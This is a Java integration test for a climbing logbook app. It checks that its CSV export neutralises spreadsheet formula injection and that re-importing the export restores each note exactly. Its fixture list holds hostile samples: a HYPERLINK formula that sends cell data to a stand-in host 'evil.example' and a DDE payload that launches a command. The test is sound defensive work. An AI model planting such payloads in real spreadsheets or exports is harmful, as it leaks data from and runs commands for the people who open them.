package dev.cruxlog.logbook;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import com.opencsv.CSVReader;
import com.opencsv.CSVReaderBuilder;
import com.opencsv.RFC4180ParserBuilder;
import com.opencsv.exceptions.CsvException;
import dev.cruxlog.CruxlogIntegrationTest;
import dev.cruxlog.support.Climbers;
import dev.cruxlog.support.Climbers.Climber;
import dev.cruxlog.support.LogbookImports;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.web.reactive.server.WebTestClient;

/**
 * Issue #15, point 6: a note that a spreadsheet would run as a formula comes out of the CSV
 * export as text (OWASP's leading apostrophe), and the export imported again gives back every
 * note exactly as the climber wrote it.
 */
@CruxlogIntegrationTest
class CsvFormulaInjectionTest {

    private static final List<String> NOTES = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"beta\")",
            "+1 move, then crimp",
            "-cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "'=already quoted by the climber",
            "-5 stars would be a lie");

    @Autowired
    WebTestClient http;

    @Test
    void formulaLikeNotesAreExportedAsTextAndComeBackExactly() throws Exception {
        Climbers climbers = new Climbers(http);
        LogbookImports imports = new LogbookImports(http);
        Climber author = climbers.verified("formulas");
        StringBuilder csv = new StringBuilder("Date,Route,Rating,Notes,URL,Pitches,Location,\"Avg Stars\",\"Your Stars\","
                + "Style,\"Lead Style\",\"Route Type\",\"Your Rating\",Length,\"Rating Code\"\n");
        for (int i = 0; i < NOTES.size(); i++) {
            csv.append("2023-06-0").append(i + 1).append(",\"Route ").append(i).append("\",5.10a,\"")
                    .append(NOTES.get(i).replace("\"", "\"\"")).append("\",,1,\"A > B\",-1,-1,Lead,Redpoint,Sport,,,2000\n");
        }
        assertThat(imports.upload(author, csv.toString().getBytes(StandardCharsets.UTF_8), "t.csv", null).get("status"))
                .isEqualTo("succeeded");

        byte[] export = http.get().uri("/api/v1/logbook/export?format=csv").header("Authorization", author.bearer())
                .exchange().expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
        List<String[]> rows = parse(export);
        int notes = List.of(rows.get(0)).indexOf("Notes");
        int avgStars = List.of(rows.get(0)).indexOf("Avg Stars");
        for (String[] row : rows.subList(1, rows.size())) {
            assertThat(row[notes]).as("no exported note starts like a formula")
                    .doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
                    .doesNotStartWith("\t");
            assertThat(row[avgStars]).as("plain numbers stay numbers").isEqualTo("-1");
        }

        Climber reader = climbers.verified("reimport");
        assertThat(imports.upload(reader, export, "cruxlog-export.csv", null).get("status")).isEqualTo("succeeded");
        List<Object> roundTripped = imports.ticks(reader).stream().map(tick -> tick.get("notes")).toList();
        assertThat(roundTripped).containsExactlyInAnyOrderElementsOf(NOTES);
    }

    private static List<String[]> parse(byte[] csv) throws java.io.IOException, CsvException {
        try (CSVReader reader = new CSVReaderBuilder(new java.io.InputStreamReader(new java.io.ByteArrayInputStream(csv),
                StandardCharsets.UTF_8)).withCSVParser(new RFC4180ParserBuilder().build()).build()) {
            return reader.readAll();
        }
    }
}
